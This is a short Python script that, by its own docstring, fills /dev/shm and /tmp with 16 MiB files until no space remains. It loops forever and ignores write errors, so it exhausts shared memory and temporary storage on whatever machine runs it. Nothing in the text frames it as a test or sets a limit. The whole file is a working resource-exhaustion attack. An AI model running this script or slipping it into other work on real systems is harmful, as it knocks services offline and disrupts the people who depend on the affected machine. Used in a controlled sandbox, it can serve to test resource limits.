"""Writes files to /dev/shm and /tmp until there is no room."""

number = 0
while True:
    for place in ("/dev/shm", "/tmp"):
        try:
            with open(f"{place}/file{number}", "wb") as file:
                for _ in range(16):
                    file.write(b"7" * (1 << 20))
        except OSError:
            pass
    number += 1
